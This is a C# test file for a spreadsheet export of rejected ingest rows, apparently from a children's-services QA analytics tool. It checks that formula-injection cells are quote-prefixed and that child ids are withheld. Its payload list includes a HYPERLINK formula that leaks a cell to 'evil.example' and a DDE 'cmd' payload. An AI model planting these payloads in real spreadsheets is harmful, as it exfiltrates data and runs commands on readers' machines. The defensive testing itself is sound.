using System.IO.Compression;
using System.Text;
using DuckDB.NET.Data;
using MiniExcelLibs;
using QaAnalytics.Ingest.Cli;
using QaAnalytics.Ingest.Export;
using QaAnalytics.Models.Export;
using QaAnalytics.Ingest.Loading;

namespace QaAnalytics.Tests.Ingest.Export;

/// <summary>
/// <c>qa-ingest rejects</c> through the real command line on a real snapshot, its files read back:
/// every reject exported once, no cell a spreadsheet would run as a formula, no child id.
/// </summary>
[Collection(ConsoleCollection.Name)]
public sealed class RejectExportTests : IDisposable
{
    private static readonly string[] Injections = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tcmd", "＝1+1"];

    private readonly TestFiles _files = new();

    public void Dispose() => _files.Dispose();

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+cmd", "'+cmd")]
    [InlineData("-", "'-")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("\nx", "'\nx")]
    [InlineData("＝1+1", "'＝1+1")]
    [InlineData("Good", "Good")]
    [InlineData("a=1", "a=1")]
    [InlineData("", "")]
    [InlineData(null, null)]
    public void Neutralise_LeadingFormulaCharacter_IsPrefixedWithAQuote(string? cell, string? expected) =>
        Assert.Equal(expected, FormulaGuard.Neutralise(cell));

    [Theory]
    [InlineData("rejects.csv")]
    [InlineData("rejects.xlsx")]
    public async Task Rejects_ExportedFile_HoldsEveryRejectSafeAndWithoutChildIds(string name)
    {
        await LoadBadRows();
        var expected = Expected();
        var path = Path.Combine(_files.Root, "out", name);

        Assert.Equal(ExitCodes.Ok, await IngestCli.RunAsync(["rejects", "--db", _files.DbPath, "--out", path]));

        var rows = name.EndsWith(".csv", StringComparison.Ordinal) ? ReadCsv(path) : ReadXlsx(path);
        Assert.Equal(expected.Count, rows.Count);
        for (var i = 0; i < rows.Count; i++)
        {
            var (want, got) = (expected[i], rows[i]);
            Assert.Equal((want.FileName, want.LineNo.ToString(System.Globalization.CultureInfo.InvariantCulture), want.ColumnName), (got[1], got[2], got[3] is "" ? null : got[3]));
            Assert.Equal(want.Reason, got[5]);
            var value = want.ColumnName == "child_id" ? RejectExport.Withheld
                : want.Value is { Length: > RejectExport.MaxValueLength } ? want.Value[..RejectExport.MaxValueLength] + "… (5,000 characters in all)"
                : want.Value;
            Assert.Equal(FormulaGuard.Neutralise(value) ?? "", got[4] ?? "");
        }
        // Each injection came back as text behind a quote; no cell starts like a formula.
        Assert.All(Injections, s => Assert.Contains(rows, r => r[4] == "'" + s));
        Assert.All(rows.SelectMany(r => r), cell => Assert.True(string.IsNullOrEmpty(cell) || FormulaGuard.Neutralise(cell) == cell, $"unsafe cell {cell}"));
        Assert.DoesNotContain(rows.SelectMany(r => r), cell => cell?.Contains("CHILD-", StringComparison.Ordinal) == true);
        if (name.EndsWith(".csv", StringComparison.Ordinal))
        {
            var bytes = await File.ReadAllBytesAsync(path);
            Assert.True(bytes.AsSpan().StartsWith(Encoding.UTF8.GetPreamble()), "Excel needs the BOM to read UTF-8");
            Assert.DoesNotContain("CHILD-", Encoding.UTF8.GetString(bytes), StringComparison.Ordinal);
        }
        else
        {
            // A workbook could also carry formulas as formula cells: there are none.
            using var zip = ZipFile.OpenRead(path);
            foreach (var entry in zip.Entries.Where(e => e.FullName.StartsWith("xl/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal)))
            {
                using var text = new StreamReader(entry.Open());
                var xml = await text.ReadToEndAsync();
                Assert.DoesNotContain("<f>", xml, StringComparison.Ordinal);
                Assert.DoesNotContain("CHILD-", xml, StringComparison.Ordinal);
            }
        }
    }

    [Fact]
    public async Task Rejects_OneRunAndOneFile_ExportsOnlyThose()
    {
        await LoadBadRows();
        var latest = _files.Scalar<string>("SELECT max(run_id) FROM ingest_runs");
        var path = Path.Combine(_files.Root, "teams.csv");

        Assert.Equal(ExitCodes.Ok, await IngestCli.RunAsync(["rejects", "--db", _files.DbPath, "--out", path, "--run", "latest", "--file", "teams.csv"]));

        var rows = ReadCsv(path);
        Assert.Equal(_files.Scalar<long>($"SELECT count(*) FROM ingest_rejects WHERE run_id = '{latest}' AND file_name = 'teams.csv'"), rows.Count);
        Assert.NotEmpty(rows);
        Assert.All(rows, r => Assert.Equal((latest, "teams.csv"), (r[0], r[1])));
    }

    [Theory]
    [InlineData("none.csv")]
    [InlineData("none.xlsx")]
    public async Task Rejects_NoneInTheRun_WritesTheHeaderOnly(string name)
    {
        _files.Write("teams.csv", "la_code,team_id,team_name,service_area\n938,T1,One,MASH\n");
        await new Loader(null, TimeProvider.System).LoadAsync(new LoadRequest(_files.DbPath, _files.Input));
        var path = Path.Combine(_files.Root, name);

        Assert.Equal(ExitCodes.Ok, await IngestCli.RunAsync(["rejects", "--db", _files.DbPath, "--out", path, "--run", "latest"]));

        Assert.Empty(name.EndsWith(".csv", StringComparison.Ordinal) ? ReadCsv(path) : ReadXlsx(path));
        var header = name.EndsWith(".csv", StringComparison.Ordinal)
            ? File.ReadLines(path).First().TrimStart('\uFEFF').Split(',')
            : MiniExcel.Query(path).Cast<IDictionary<string, object?>>().Single().Values.Select(v => v?.ToString() ?? "").ToArray();
        Assert.Equal(RejectExport.Columns, header);
    }

    [Fact]
    public async Task Rejects_BadArguments_ExitWithTheDocumentedCodes()
    {
        Assert.Equal(ExitCodes.InputRefused, await IngestCli.RunAsync(["rejects", "--db", _files.DbPath, "--out", Path.Combine(_files.Root, "r.csv")]));
        Assert.Equal(ExitCodes.Usage, await IngestCli.RunAsync(["rejects", "--db", _files.DbPath, "--out", Path.Combine(_files.Root, "r.txt")]));
        await LoadBadRows();
        Assert.Equal(ExitCodes.InputRefused, await IngestCli.RunAsync(["rejects", "--db", _files.DbPath, "--out", Path.Combine(_files.Root, "r.csv"), "--run", "no-such-run"]));
    }

    /// <summary>
    /// Teams and audits whose rejects carry formula strings, a 5,000-character value, a row the
    /// reader cannot split (with a child id in it) and a duplicate id; then a reject row with a
    /// child id written straight into the snapshot, which the loader itself never does.
    /// </summary>
    private async Task LoadBadRows()
    {
        _files.Write("teams.csv", "la_code,team_id,team_name,service_area\n938,T1,One,MASH\n938,T1,Again,MASH\n938,,No id,MASH\n");
        var audits = new StringBuilder("audit_id,child_id,team_id,worker_id,auditor_id,audit_type,audit_date,overall_grade\n");
        var n = 0;
        foreach (var injection in Injections) audits.Append($"B{++n},CHILD-{n:0000},T1,W1,M1,case,2024-03-01,\"{injection.Replace("\"", "\"\"")}\"\n");
        audits.Append($"B{++n},CHILD-{n:0000},T1,W1,M1,case,2024-03-01,{new string('G', 5_000)}\n");
        audits.Append($"B{++n},CHILD-{n:0000},T1,W1,M1,case,2024-03-01,Good,extra,fields\n");
        audits.Append($"B1,CHILD-{++n:0000},T1,W1,M1,case,2024-03-01,Good\n");
        _files.Write("audits.csv", audits.ToString());
        var report = await new Loader(Pseudonymiser.Demo(), new SteppingTime(new DateTimeOffset(2024, 6, 30, 0, 0, 0, TimeSpan.Zero)))
            .LoadAsync(new LoadRequest(_files.DbPath, _files.Input));
        Assert.Equal(11L, report.RowsRejected);

        var snapshot = new FileInfo(_files.DbPath).ResolveLinkTarget(true)!.FullName;
        using var writer = new DuckDBConnection($"Data Source={snapshot}");
        writer.Open();
        using var cmd = writer.CreateCommand();
        cmd.CommandText = $"INSERT INTO ingest_rejects VALUES ('{report.RunId}', 'audits.csv', 99, 'child_id', 'CHILD-7777', 'planted by the test')";
        cmd.ExecuteNonQuery();
    }

    private List<RejectRow> Expected() => _files.Rows("SELECT run_id, file_name, line_no, column_name, value, reason FROM ingest_rejects ORDER BY run_id, file_name, line_no, column_name")
        .Select(r => new RejectRow((string)r[0]!, (string)r[1]!, (long)r[2]!, (string?)r[3], (string?)r[4], (string)r[5]!)).ToList();

    /// <summary>The CSV as a spreadsheet would split it, by DuckDB's reader (all text, no guessing).</summary>
    private static List<string?[]> ReadCsv(string path)
    {
        using var connection = new DuckDBConnection("Data Source=:memory:");
        connection.Open();
        var columns = string.Join(", ", RejectExport.Columns.Select(c => $"'{c}': 'VARCHAR'"));
        return Query.Rows(connection, $"SELECT * FROM read_csv('{path}', header = true, auto_detect = false, delim = ',', quote = '\"', escape = '\"', columns = {{{columns}}})")
            .Select(r => r.Select(c => (string?)c).ToArray()).ToList();
    }

    private static List<string?[]> ReadXlsx(string path) =>
        MiniExcel.Query(path, useHeaderRow: true).Cast<IDictionary<string, object?>>()
            .Select(r => RejectExport.Columns.Select(c => r[c] switch
            {
                null => null,
                double d => d.ToString(System.Globalization.CultureInfo.InvariantCulture),
                var v => v.ToString(),
            }).ToArray()).ToList();
}
